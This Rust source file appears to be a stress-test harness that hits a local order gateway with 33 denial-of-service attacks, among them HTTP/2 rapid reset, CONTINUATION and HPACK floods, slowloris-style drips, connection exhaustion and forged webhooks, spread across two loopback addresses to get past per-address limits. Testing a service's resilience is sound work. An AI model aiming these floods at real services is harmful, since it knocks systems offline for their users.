//! The attacks. Each is played by a process of its own: many connections, each of which does one bad thing as often as it can,
//! and is opened again when it is lost.

use std::net::SocketAddr;
use std::time::Duration;

use bytes::Bytes;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::sleep;

use crate::frames::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW, PING, PRIORITY, RESET, SETTINGS,
    WINDOW_UPDATE, call, frame, head, literal, opening,
};
use crate::gateway::ACCOUNT;
use crate::rogue;

pub(crate) const CREATE: &str = "/ordergateway.v1.FulfillmentService/CreateOrder";
const STATUS: &str = "/ordergateway.v1.GatewayService/GetStatus";
const CHECK: &str = "/grpc.health.v1.Health/Check";
/// Bytes of the largest message.
const MESSAGE: usize = 1024 * 1024;
/// Before a lost connection is opened again.
const PAUSE: Duration = Duration::from_millis(20);
/// Between two bytes of those who are slow.
const SLOW: Duration = Duration::from_millis(500);

/// One way to be a nuisance.
pub(crate) struct Attack {
    pub name: &'static str,
    /// What is done.
    pub what: &'static str,
    door: Door,
    /// At a time.
    pub connections: usize,
    act: Act,
}

#[derive(Clone, Copy)]
enum Door {
    Grpc,
    Http,
}

#[derive(Clone, Copy)]
enum Act {
    /// Says the first, then the second again and again, and reads whatever comes.
    Flood(fn() -> Vec<u8>, fn(u32) -> Vec<u8>),
    /// The same, and reads nothing.
    Deaf(fn() -> Vec<u8>, fn(u32) -> Vec<u8>),
    /// Says the first at once, the second a byte at a time.
    Drip(fn() -> Vec<u8>, fn() -> Vec<u8>),
    /// Says this and then nothing.
    Hold(fn() -> Vec<u8>),
    /// Sends messages that lack their last byte, as fast as the gateway's windows let it.
    Unfinished,
}

/// All of them.
pub(crate) const ATTACKS: [Attack; 33] = [
    grpc("rapid-reset", "calls that are reset at once", 32, Act::Flood(plain, resets)),
    grpc("continuation", "headers that never end", 32, Act::Flood(endless_headers, continuations)),
    grpc("hpack-bomb", "a header of 4 KB named 16,000 times in 16 KB", 32, Act::Flood(plain, hpack_bomb)),
    grpc("metadata", "metadata of 1 MiB", 32, Act::Flood(plain, metadata)),
    grpc("settings-flood", "SETTINGS without end", 32, Act::Flood(plain, |_| frame(SETTINGS, 0, 0, &[]).repeat(500))),
    grpc("ping-flood", "PING without end", 32, Act::Flood(plain, |_| frame(PING, 0, 0, &[7; 8]).repeat(500))),
    grpc(
        "ping-ack-flood",
        "answers to PINGs that nobody sent",
        32,
        Act::Flood(plain, |_| frame(PING, ACK, 0, &[7; 8]).repeat(500)),
    ),
    grpc(
        "ping-deaf",
        "PING without end, answers unread",
        32,
        Act::Deaf(plain, |_| frame(PING, 0, 0, &[7; 8]).repeat(500)),
    ),
    grpc(
        "priority-flood",
        "PRIORITY without end",
        32,
        Act::Flood(plain, |_| frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 9]).repeat(500)),
    ),
    grpc("empty-data", "DATA without data", 32, Act::Flood(open_call, |_| frame(DATA, 0, 1, &[]).repeat(500))),
    grpc("tiny-data", "DATA of one byte", 32, Act::Flood(open_call, |_| frame(DATA, 0, 1, &[0]).repeat(500))),
    grpc(
        "window-overflow",
        "WINDOW_UPDATE beyond the largest window",
        32,
        Act::Flood(plain, |_| frame(WINDOW_UPDATE, 0, 0, &[0x7f, 0xff, 0xff, 0xff]).repeat(2)),
    ),
    grpc("garbage", "random bytes in place of frames", 32, Act::Flood(plain, garbage)),
    grpc("wrong-lengths", "frames of impossible lengths", 32, Act::Flood(plain, wrong_length)),
    grpc("slow-preface", "the first words, a byte at a time", 1000, Act::Drip(Vec::new, plain)),
    grpc("half-frame", "half of a call's headers", 1000, Act::Hold(half_frame)),
    grpc("zero-window", "answers for which there is no window", 100, Act::Deaf(no_window, |n| calls(STATUS, n))),
    grpc(
        "small-window",
        "answers for which there is hardly a window",
        100,
        Act::Deaf(small_window, |n| calls(CHECK, n)),
    ),
    grpc("unread", "calls without end, answers unread", 32, Act::Deaf(plain, |n| calls(CHECK, n))),
    grpc("unfinished", "messages of 1 MiB but for the last byte", 2, Act::Unfinished),
    grpc("quiet", "4,000 connections that say nothing", 4_000, Act::Hold(plain)),
    grpc("idle", "connections that say nothing, beyond all limits", 12_000, Act::Hold(plain)),
    grpc("client-calls", "one client's calls whose messages never end", 32, Act::Hold(rogue::calls)),
    grpc("client-status", "one client's GetStatus without end", 32, Act::Flood(plain, |n| calls(STATUS, n))),
    grpc("client-streams", "one client's streams of the feed, 25,000", 100, Act::Hold(rogue::streams)),
    grpc("client-health", "one client's health watches, 38,400", 150, Act::Hold(rogue::health_watches)),
    grpc("client-feed", "one client's subscriptions, made without end", 8, Act::Flood(plain, rogue::subscriptions)),
    http("http-slow-head", "headers, a byte at a time", 700, Act::Drip(Vec::new, slow_head)),
    http("http-slow-body", "a body, a byte at a time", 700, Act::Drip(body_to_come, || vec![b' '; 9999])),
    http("http-half-posts", "webhooks without a proof that never finish", 2_000, Act::Hold(half_post)),
    http(
        "http-unread",
        "answers that are not read",
        100,
        Act::Deaf(Vec::new, |_| b"GET /metrics HTTP/1.1\r\nhost: localhost\r\n\r\n".repeat(20)),
    ),
    http("http-idle", "connections that say nothing, beyond all limits", 3_000, Act::Hold(Vec::new)),
    http("forged-webhooks", "webhooks with a wrong signature", 32, Act::Flood(Vec::new, forged)),
];

const fn grpc(name: &'static str, what: &'static str, connections: usize, act: Act) -> Attack {
    Attack { name, what, door: Door::Grpc, connections, act }
}

const fn http(name: &'static str, what: &'static str, connections: usize, act: Act) -> Attack {
    Attack { name, what, door: Door::Http, connections, act }
}

impl Attack {
    /// Whether it would use all the processor that it gets: then it gets what honest callers leave.
    pub(crate) fn is_greedy(&self) -> bool {
        matches!(self.act, Act::Flood(..) | Act::Deaf(..) | Act::Unfinished)
    }
}

/// Plays an attack until the process is killed.
pub(crate) async fn play(attack: &'static Attack, grpc: SocketAddr, http: SocketAddr) {
    let target = match attack.door {
        Door::Grpc => grpc,
        Door::Http => http,
    };
    for n in 0..attack.connections {
        // Another address than honest callers have, and more than one, so that no limit of one address is the end of it.
        let from = SocketAddr::from(([127, 0, 0, 2 + (n % 2) as u8], 0));
        tokio::spawn(async move {
            loop {
                // The end of a connection is what it came for.
                let _ = once(attack.act, from, target).await;
                sleep(PAUSE).await;
            }
        });
    }
    std::future::pending().await
}

async fn once(act: Act, from: SocketAddr, target: SocketAddr) -> std::io::Result<()> {
    let socket = TcpSocket::new_v4()?;
    if matches!(act, Act::Deaf(..)) {
        socket.set_recv_buffer_size(4096)?;
    }
    socket.bind(from)?;
    let stream = socket.connect(target).await?;
    match act {
        Act::Flood(first, again) => {
            let (mut read, mut write) = stream.into_split();
            let reading = tokio::spawn(async move {
                let mut answer = vec![0; 64 * 1024];
                while read.read(&mut answer).await.is_ok_and(|bytes| bytes > 0) {}
            });
            let said = async {
                write.write_all(&first()).await?;
                for n in 0.. {
                    write.write_all(&again(n)).await?;
                }
                Ok(())
            }
            .await;
            // Whoever was let go reads what there is left to read, and no longer.
            let _ = tokio::time::timeout(PAUSE, reading).await;
            said
        }
        Act::Deaf(first, again) => deaf(stream, first, again).await,
        Act::Drip(first, words) => {
            let mut stream = stream;
            stream.write_all(&first()).await?;
            for byte in words() {
                stream.write_all(&[byte]).await?;
                sleep(SLOW).await;
            }
            ended(stream).await
        }
        Act::Unfinished => unfinished(stream).await.map_err(std::io::Error::other),
        Act::Hold(words) => {
            let mut stream = stream;
            stream.write_all(&words()).await?;
            ended(stream).await
        }
    }
}

async fn deaf(mut stream: TcpStream, first: fn() -> Vec<u8>, again: fn(u32) -> Vec<u8>) -> std::io::Result<()> {
    stream.write_all(&first()).await?;
    for n in 0.. {
        stream.write_all(&again(n)).await?;
        tokio::task::yield_now().await;
    }
    Ok(())
}

async fn unfinished(stream: TcpStream) -> Result<(), h2::Error> {
    let (mut send, connection) = h2::client::Builder::new().handshake::<_, Bytes>(stream).await?;
    tokio::spawn(connection);
    let mut message = vec![b'x'; MESSAGE + 4];
    message[..5].copy_from_slice(&[0, 0, 0x10, 0, 0]);
    let message = Bytes::from(message);
    let mut held = Vec::new();
    loop {
        send = send.ready().await?;
        let mut request = http::Request::post(format!("http://gateway{CREATE}")).body(()).unwrap_or_default();
        request.headers_mut().insert("content-type", http::HeaderValue::from_static("application/grpc"));
        let (answer, mut body) = send.send_request(request, false)?;
        body.send_data(message.clone(), false)?;
        held.push(body);
        // Refused or not, the next one comes.
        tokio::spawn(answer);
        sleep(Duration::from_millis(1)).await;
    }
}

async fn ended(mut stream: TcpStream) -> std::io::Result<()> {
    let mut rest = [0; 1024];
    while stream.read(&mut rest).await? > 0 {}
    Ok(())
}

fn plain() -> Vec<u8> {
    opening(&[])
}

fn no_window() -> Vec<u8> {
    opening(&[(INITIAL_WINDOW, 0)])
}

fn small_window() -> Vec<u8> {
    opening(&[(INITIAL_WINDOW, 4096)])
}

fn open_call() -> Vec<u8> {
    [opening(&[]), frame(HEADERS, END_HEADERS, 1, &head(CREATE))].concat()
}

fn half_frame() -> Vec<u8> {
    let whole = frame(HEADERS, END_HEADERS, 1, &head(CREATE));
    [opening(&[]), whole[..whole.len() / 2].to_vec()].concat()
}

/// Numbers of streams: odd, each larger than the last.
pub(crate) fn stream(n: u32) -> u32 {
    (2 * n + 1) & 0x7fff_ffff
}

fn resets(n: u32) -> Vec<u8> {
    let one =
        |n| [frame(HEADERS, END_HEADERS, stream(n), &head(CHECK)), frame(RESET, 0, stream(n), &[0, 0, 0, 8])].concat();
    (100 * n..100 * n + 100).flat_map(one).collect()
}

fn calls(path: &'static str, n: u32) -> Vec<u8> {
    (50 * n..50 * n + 50).flat_map(|n| call(path, stream(n), &[])).collect()
}

fn endless_headers() -> Vec<u8> {
    [opening(&[]), frame(HEADERS, 0, 1, &head(CREATE))].concat()
}

fn continuations(_: u32) -> Vec<u8> {
    frame(CONTINUATION, 0, 1, &literal(0x00, "x-more", &[b'x'; 1000])).repeat(10)
}

fn hpack_bomb(n: u32) -> Vec<u8> {
    let kept = literal(0x40, "x-bomb", &[b'x'; 3900]);
    let block = [head(CHECK), kept, vec![0x80 | 62; 12_000]].concat();
    frame(HEADERS, END_HEADERS | END_STREAM, stream(n), &block)
}

fn metadata(n: u32) -> Vec<u8> {
    let block = [head(CHECK), literal(0x00, "x-large", &vec![b'x'; 1024 * 1024])].concat();
    let mut pieces = block.chunks(16 * 1024).peekable();
    let mut said = frame(HEADERS, 0, stream(n), pieces.next().unwrap_or_default());
    while let Some(piece) = pieces.next() {
        let flags = if pieces.peek().is_none() { END_HEADERS } else { 0 };
        said.extend(frame(CONTINUATION, flags, stream(n), piece));
    }
    said
}

/// Noise without a seed: the same in every run.
fn noise(seed: u32, bytes: usize) -> Vec<u8> {
    let mut state = seed.wrapping_mul(2_654_435_761) | 1;
    let next = || {
        state ^= state << 13;
        state ^= state >> 17;
        state ^= state << 5;
        (state >> 8) as u8
    };
    std::iter::repeat_with(next).take(bytes).collect()
}

fn garbage(n: u32) -> Vec<u8> {
    noise(n + std::process::id(), 4096)
}

fn wrong_length(n: u32) -> Vec<u8> {
    let kinds = [DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW_UPDATE, 0x7, 0x5];
    frame(kinds[n as usize % kinds.len()], n as u8, n % 3, &noise(n, 3 + n as usize % 40))
}

fn slow_head() -> Vec<u8> {
    format!("POST /webhooks/walmart/{ACCOUNT} HTTP/1.1\r\nhost: x\r\nx-long: {}\r\n", "x".repeat(4000)).into_bytes()
}

fn body_to_come() -> Vec<u8> {
    format!(
        "POST /webhooks/walmart/{ACCOUNT} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n\
         content-length: 9999\r\n\r\n"
    )
    .into_bytes()
}

fn half_post() -> Vec<u8> {
    [body_to_come(), b"{\"source\":".to_vec()].concat()
}

fn forged(n: u32) -> Vec<u8> {
    let body = crate::honest::intent(&format!("forged-{n}"));
    let head = format!(
        "POST /webhooks/walmart/{ACCOUNT} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n\
         x-walmart-auth: {:064x}\r\ncontent-length: {}\r\n\r\n",
        n,
        body.len()
    );
    [head.into_bytes(), body].concat()
}
